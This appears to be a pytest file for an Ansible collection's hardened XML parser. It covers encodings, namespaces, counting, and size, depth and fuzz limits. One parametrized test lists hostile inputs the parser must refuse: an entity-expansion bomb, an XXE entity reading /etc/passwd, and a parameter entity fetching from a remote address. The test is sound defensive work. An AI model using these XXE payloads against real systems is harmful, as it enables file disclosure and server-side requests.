# SPDX-FileCopyrightText: 2026 ucops contributors
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import contextlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ansible_collections.ucops.recovery.plugins.module_utils._compare import xml_document
from ansible_collections.ucops.recovery.plugins.module_utils._compare.xml_document import (
    Element,
    XmlRefused,
    count_elements,
    parse_xml,
)

USERS = (
    '\ufeff<?xml version="1.0" encoding="utf-8"?>\r\n<Users><User id="1"><Name>Müller</Name></User></Users>'.encode()
)


def test_a_document_with_a_byte_order_mark():
    users = parse_xml(USERS)
    assert users == Element("Users", {}, [Element("User", {"id": "1"}, [Element("Name", {}, [], "Müller")])])
    assert next(users.find("user")).get("NAME") == "Müller"
    assert next(users.find("user")).get("ID") == "1"
    assert users.get("name") is None


@pytest.mark.parametrize("encoding", ["utf-16", "iso-8859-1", "windows-1252"])
def test_encodings(encoding):
    content = f'<?xml version="1.0" encoding="{encoding}"?><a>Müller</a>'.encode(encoding)
    assert parse_xml(content).text == "Müller"


def test_prefixes_of_namespaces_are_no_part_of_a_name():
    assert parse_xml(b'<x:a xmlns:x="urn:x" x:b="1"/>').name == "a"
    assert parse_xml(b'<x:a xmlns:x="urn:x" x:b="1"/>').get("b") == "1"


def test_counting():
    assert count_elements(b"<a><User/><USER/><users><user/></users></a>", ["user"]) == 3
    assert count_elements(b"<a/>", ["user"]) == 0


BOMB = b'<!DOCTYPE a [<!ENTITY b "xx"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>'


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (BOMB, "declarations"),
        (b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "declarations"),
        (b'<!DOCTYPE a [<!ENTITY % b SYSTEM "http://192.0.2.1/x"> %b;]><a/>', "declarations"),
        (b'<!DOCTYPE a [<!ATTLIST a b CDATA "x">]><a/>', "declarations"),
        (b"<a>&unknown;</a>", "well-formed"),
        (b"<a><b></a>", "well-formed"),
        (b"", "well-formed"),
        (b"geheim", "well-formed"),
        (b"<a>" * 101 + b"</a>" * 101, "deep"),
        (b'<?xml version="1.0" encoding="klingon"?><a/>', "encoding|well-formed"),
    ],
)
def test_what_is_refused_and_nothing_of_it_quoted(content, why):
    with pytest.raises(XmlRefused, match=why) as caught:
        parse_xml(content)
    assert "geheim" not in str(caught.value) and "passwd" not in str(caught.value)


def test_an_external_document_type_is_not_fetched(tmp_path):
    definition = tmp_path / "a.dtd"
    definition.write_text('<!ENTITY b "fetched">')
    assert parse_xml(f'<!DOCTYPE a SYSTEM "{definition.as_uri()}"><a>x</a>'.encode()).text == "x"


def test_a_hundred_levels_are_read():
    assert len(list(parse_xml(b"<a>" * 100 + b"</a>" * 100).everywhere())) == 100


def test_size_and_number_are_bounded(monkeypatch):
    monkeypatch.setattr(xml_document, "LARGEST", 10)
    with pytest.raises(XmlRefused, match="more than 10 bytes"):
        parse_xml(b"<a>xxxx</a>")
    monkeypatch.setattr(xml_document, "LARGEST", 1000)
    monkeypatch.setattr(xml_document, "MOST_ELEMENTS", 3)
    assert parse_xml(b"<a><b/><b/></a>")
    with pytest.raises(XmlRefused, match="more than 3 elements"):
        parse_xml(b"<a><b/><b/><b/></a>")


@given(st.binary(max_size=300))
def test_whatever_comes_is_read_or_refused(content):
    with contextlib.suppress(XmlRefused):
        assert isinstance(parse_xml(content), Element)
